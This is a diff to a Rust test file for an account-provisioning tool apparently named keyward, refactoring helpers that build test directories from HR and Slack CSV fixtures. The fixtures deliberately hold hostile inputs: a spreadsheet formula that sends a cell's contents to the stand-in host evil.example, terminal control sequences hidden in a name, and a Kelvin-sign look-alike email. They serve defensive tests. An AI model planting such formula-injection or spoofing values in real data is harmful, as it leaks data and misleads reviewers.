@@ -7,7 +7,7 @@
 use std::path::Path;
 
 use assert_cmd::Command;
-use keyward_testkit::org::{HR_CSV_HEADER, people_source_yaml};
+use keyward_testkit::org::{HR_CSV_HEADER, directory, people_source_yaml};
 
 /// E1's family name and E2's department are formulas; E3 is a plain person.
 const HR: &str = "E1,=HYPERLINK(\"http://evil.example/?\"&A1),太郎,taro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n\
@@ -43,17 +43,19 @@ spec:
 ";
 
 fn org() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
-    let write = |rel: &str, text: &str| {
-        let p = dir.path().join(rel);
-        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-        std::fs::write(p, text).unwrap();
-    };
-    write("data/hr.csv", &format!("{HR_CSV_HEADER}{HR}"));
-    write("data/slack.csv", SLACK);
-    write("policies/people.yaml", &people_source_yaml("../data/hr.csv"));
-    write("policies/slack.yaml", APP);
-    dir
+    directory(&[
+        ("data/hr.csv", &format!("{HR_CSV_HEADER}{HR}")),
+        ("data/slack.csv", SLACK),
+        ("policies/people.yaml", &people_source_yaml("../data/hr.csv")),
+        ("policies/slack.yaml", APP),
+    ])
+}
+
+/// Adds rows at the end of one of the organisation's files.
+fn append(dir: &Path, rel: &str, text: &str) {
+    let p = dir.join(rel);
+    let all = std::fs::read_to_string(&p).unwrap() + text;
+    std::fs::write(p, all).unwrap();
 }
 
 fn keyward(dir: &Path, args: &[&str]) -> String {
@@ -139,14 +141,8 @@ const SLACK_CONTROLS: &str = "\"shiro\x1b[8m\rhidden\",shiro@example.com,Member,
 
 fn org_with_controls() -> tempfile::TempDir {
     let dir = org();
-    let append = |rel: &str, text: &str| {
-        let p = dir.path().join(rel);
-        let mut all = std::fs::read_to_string(&p).unwrap();
-        all.push_str(text);
-        std::fs::write(p, all).unwrap();
-    };
-    append("data/hr.csv", HR_CONTROLS);
-    append("data/slack.csv", SLACK_CONTROLS);
+    append(dir.path(), "data/hr.csv", HR_CONTROLS);
+    append(dir.path(), "data/slack.csv", SLACK_CONTROLS);
     dir
 }
 
@@ -215,14 +211,9 @@ fn control_characters_from_data_are_escaped_in_errors() {
 #[test]
 fn a_look_alike_address_is_reviewed_with_the_person_it_resembles_never_matched() {
     let dir = org();
-    let append = |rel: &str, text: &str| {
-        let p = dir.path().join(rel);
-        let all = std::fs::read_to_string(&p).unwrap() + text;
-        std::fs::write(p, all).unwrap();
-    };
-    append("data/hr.csv", "E5,石川,蓮,ren.ishikawa@example.com,開発本部,,正社員,在籍,2015/04/01,,\n");
+    append(dir.path(), "data/hr.csv", "E5,石川,蓮,ren.ishikawa@example.com,開発本部,,正社員,在籍,2015/04/01,,\n");
     // U+212A KELVIN SIGN: Unicode case folding turns it into `k`.
-    append("data/slack.csv", "ren,ren.ishi\u{212a}awa@example.com,Member,\n");
+    append(dir.path(), "data/slack.csv", "ren,ren.ishi\u{212a}awa@example.com,Member,\n");
     let plan = keyward(dir.path(), &["plan", "-f", "policies", "--at", "2026-11-23", "--format", "json"]);
     let plan: serde_json::Value = serde_json::from_str(&plan).unwrap();
     let changes = plan["changes"].as_array().unwrap();
